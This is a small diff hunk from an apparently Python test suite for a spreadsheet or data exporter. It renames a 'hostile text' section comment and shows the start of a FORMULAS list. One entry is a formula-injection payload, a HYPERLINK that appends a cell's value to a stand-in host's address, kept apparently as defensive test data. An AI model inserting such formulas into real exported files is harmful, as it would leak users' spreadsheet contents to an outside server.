@@ -339,7 +339,7 @@ def test_export_work_grows_linearly(exported, instrument, tmp_path, monkeypatch)
     assert calls4 / calls <= 4 and reads4 == reads
 
 
-# ------------------------------------------------------------------ hostile text (issue 24)
+# ------------------------------------------------------------------------------ hostile text
 
 FORMULAS = [
     '=HYPERLINK("http://example.invalid/?"&A1,"open")',
